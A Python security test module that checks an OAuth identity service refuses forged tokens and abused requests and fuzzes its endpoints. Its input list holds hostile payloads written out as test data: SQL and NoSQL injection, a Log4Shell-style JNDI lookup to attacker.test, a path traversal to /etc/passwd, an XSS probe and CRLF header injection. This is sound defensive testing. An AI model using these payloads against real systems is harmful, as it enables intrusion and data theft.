"""Forged tokens and abused requests at the OAuth endpoints: each refused in its RFC's form, none an error of ours."""

import json
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from typing import Any
from urllib.parse import urlencode

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from services.identity.sessions import ACTIVE, family_key, user_key
from tests.conftest import Clock, Log
from tests.security.test_header_forgeries import ALGORITHMS, KEYS, TYPES
from tests.security.test_payload_forgeries import CLAIMS, ENCODINGS, PAYLOADS
from tests.support import identity
from tests.support.gateway import Answer
from tests.unit.identity.conftest import BASIC, SERVICE, Client
from utils import table
from utils.sandbox import DEFAULT
from utils.writes import Put

FORM = {"content-type": "application/x-www-form-urlencoded"}
FORGERIES = {**ALGORITHMS, **KEYS, **TYPES, **CLAIMS, **PAYLOADS, **ENCODINGS}
ENDPOINTS = ("/auth/token", "/auth/refresh", "/auth/revoke", "/auth/introspect")
NAMES = (
    "grant_type",
    "client_id",
    "client_secret",
    "username",
    "password",
    "refresh_token",
    "code",
    "redirect_uri",
    "code_verifier",
    "scope",
    "token",
    "token_type_hint",
)
NASTY = (
    "' OR '1'='1",
    '{"$ne": null}',
    "${jndi:ldap://attacker.test/x}",
    "../../../etc/passwd",
    "<script>alert(1)</script>",
    "x\r\nSet-Cookie: a=b",
    "x\x00y",
    "\u202eadmin",
    "psn-emulator#user#nobody",
    "default#family#x",
    "A" * 5000,
    "%00",
    "\ud7ff\U0010ffff",
    "[]",
    "null",
)


@pytest.fixture
def client(the_table: str, monkeypatch: pytest.MonkeyPatch) -> Client:
    """A client of the identity provider."""
    identity.publish(monkeypatch, identity.KEY)
    identity.store_keys(identity.KEY)
    identity.store_seed(identity.seed_entry())
    return Client()


@pytest.fixture
def good(client: Client, stopped_clock: Clock) -> str:
    """The token that the forgeries are made of, alive."""
    stopped_clock.moment = datetime.fromtimestamp(2_000_000_100, UTC)
    pk, sk = family_key(DEFAULT, "family")
    family = {"subject": identity.SUBJECT, "client_id": "psn-emulator", "scope": "openid"}
    table.write(Put({"pk": pk, "sk": sk, **family}))
    pk, sk = user_key(DEFAULT, identity.SUBJECT)
    table.write(
        Put({"pk": pk, "sk": sk, "status": ACTIVE, "username": "testuser", "subject": identity.SUBJECT})
    )
    return identity.good_token(scope="openid")


def _accepted(send: Callable[[str], Answer], refused: Callable[[Answer], bool]) -> Iterator[str]:
    """The forgeries that were not refused."""
    for name, (_, forgery) in FORGERIES.items():
        if not refused(send(forgery())):
            yield name


def _is_oauth_error(answer: Answer) -> bool:
    body = answer.json()
    printable = all(
        " " <= character <= "~" and character not in '"\\' for character in body["error_description"]
    )
    return 400 <= answer.status < 500 and body.keys() == {"error", "error_description"} and printable


class TestForgedTokens:
    def test_none_is_active(self, client: Client, good: str) -> None:
        def ask(token: str) -> Answer:
            return client.form("/auth/introspect", {"token": token}, basic=SERVICE)

        assert ask(good).json()["active"] is True
        accepted = _accepted(ask, lambda answer: (answer.status, answer.text) == (200, '{"active":false}'))
        assert list(accepted) == []

    def test_none_revokes_anything(self, client: Client, good: str) -> None:
        def revoke(token: str) -> Answer:
            return client.form("/auth/revoke", {"token": token, "client_id": "psn-emulator"})

        assert list(_accepted(revoke, lambda answer: answer.status == 200)) == []
        assert client.userinfo(good).status == 200
        assert revoke(good).status == 200
        assert client.userinfo(good).status == 401

    def test_none_gets_userinfo(self, client: Client, good: str) -> None:
        assert client.userinfo(good).status == 200
        accepted = _accepted(
            client.userinfo,
            lambda answer: answer.status == 401 and answer.json()["error"] == "invalid_token",
        )
        assert list(accepted) == []

    def test_none_refreshes(self, client: Client) -> None:
        accepted = _accepted(
            lambda token: client.grant("refresh_token", refresh_token=token),
            lambda answer: answer.json()["error"] in {"invalid_grant", "invalid_request"},
        )
        assert list(accepted) == []


class TestAbusedRequests:
    @pytest.mark.parametrize("path", ["/auth/token", "/auth/revoke", "/auth/introspect"])
    def test_credentials_in_the_query_count_for_nothing(self, client: Client, path: str) -> None:
        query = urlencode({"client_id": identity.BACKEND, "client_secret": identity.SECRET})
        form = urlencode({"grant_type": "client_credentials", "token": "x"})
        answer = client.post(f"{path}?{query}", raw=form, headers=FORM)
        assert (answer.status, answer.json()["error"]) == (401, "invalid_client")

    def test_a_grant_in_the_query_counts_for_nothing(self, client: Client) -> None:
        answer = client.form(
            "/auth/token?grant_type=client_credentials", {"scope": "players:read"}, basic=BASIC
        )
        assert (answer.status, answer.json()["error"]) == (400, "invalid_request")

    @pytest.mark.parametrize("name", NAMES)
    @pytest.mark.parametrize("path", ["/auth/token", "/auth/revoke", "/auth/introspect"])
    def test_a_parameter_that_comes_twice_is_refused(self, client: Client, path: str, name: str) -> None:
        answer = client.post(path, raw=f"{name}=a&{name}=a", headers=FORM)
        assert (answer.status, answer.json()) == (
            400,
            {"error": "invalid_request", "error_description": "A parameter is repeated."},
        )

    @pytest.mark.parametrize("nasty", NASTY)
    @pytest.mark.parametrize("grant", ["password", "refresh_token", "authorization_code", "x"])
    def test_nothing_in_a_form_is_taken_for_more_than_text(
        self, client: Client, log: Log, grant: str, nasty: str
    ) -> None:
        right: dict[str, Any] = {
            "username": identity.USERNAME,
            "password": identity.PASSWORD,
            "refresh_token": "x",
            "code": "x",
            "redirect_uri": identity.REDIRECT_URI,
            "code_verifier": identity.VERIFIER,
        }
        for name in [*right, "scope"]:
            answer = client.grant(grant, **{**right, name: nasty})
            if grant == "password" and name not in {"username", "password", "scope"}:
                assert answer.status == 200, "what is for another grant is ignored"
                continue
            assert _is_oauth_error(answer)
            assert nasty not in answer.text
        assert json.dumps(nasty)[1:-1] not in log.text
        assert "a bug" not in log.text

    @pytest.mark.parametrize("nasty", NASTY)
    @pytest.mark.parametrize("path", ["/auth/token", "/auth/revoke", "/auth/introspect"])
    def test_nothing_in_the_credentials_is(self, client: Client, log: Log, path: str, nasty: str) -> None:
        form = {"grant_type": "client_credentials", "token": "x"}
        for answer in (
            client.form(path, form, basic=(nasty, nasty)),
            client.form(path, form, basic=(identity.BACKEND, nasty)),
            client.form(path, {**form, "client_id": nasty, "client_secret": nasty}),
        ):
            assert (answer.status, answer.json()["error"]) == (401, "invalid_client")
            assert nasty not in answer.text + str(answer.headers)
        assert "a bug" not in log.text

    def test_no_client_can_give_itself_another_subject(self, client: Client) -> None:
        for extra in ("sub", "subject", "user", "client_id_issued_at", "generation", "aud"):
            claimed: dict[str, Any] = {extra: identity.SUBJECT}
            token = client.granted("client_credentials", **claimed)["access_token"]
            payload = json.loads(identity.decode(token.split(".")[1]))
            assert (payload["sub"], payload["sandbox"]) == (identity.BACKEND, "default")

    @pytest.mark.parametrize("header", ["x-http-method-override", "x-forwarded-host", "host"])
    def test_a_header_changes_neither_issuer_nor_audience(self, client: Client, header: str) -> None:
        login = {"username": identity.USERNAME, "password": identity.PASSWORD}
        answer = client.post("/auth/token", login, headers={header: "attacker.test"})
        payload = json.loads(identity.decode(answer.json()["access_token"].split(".")[1]))
        assert (payload["iss"], payload["aud"]) == (identity.ISSUER, identity.AUDIENCE)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    path=st.sampled_from(ENDPOINTS),
    parameters=st.dictionaries(st.sampled_from(NAMES), st.text(max_size=50), max_size=6),
    grant=st.sampled_from(["password", "refresh_token", "authorization_code", "client_credentials", ""]),
    authorization=st.none() | st.text(max_size=40) | st.binary(max_size=40).map(lambda raw: f"Basic {raw!r}"),
)
def test_any_form_is_answered_in_the_form_of_the_rfc(
    client: Client, path: str, parameters: dict[str, str], grant: str, authorization: str | None
) -> None:
    raw = urlencode({**parameters, "grant_type": grant}, errors="replace")
    headers: dict[str, Any] = FORM if authorization is None else {**FORM, "authorization": authorization}
    assert _is_oauth_error(client.post(path, raw=raw, headers=headers))


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(path=st.sampled_from(ENDPOINTS), body=st.binary(max_size=200))
def test_any_bytes_are_answered_in_the_form_of_the_rfc(client: Client, path: str, body: bytes) -> None:
    for media_type in ("application/json", FORM["content-type"]):
        assert _is_oauth_error(client.post(path, raw=body, headers={"content-type": media_type}))
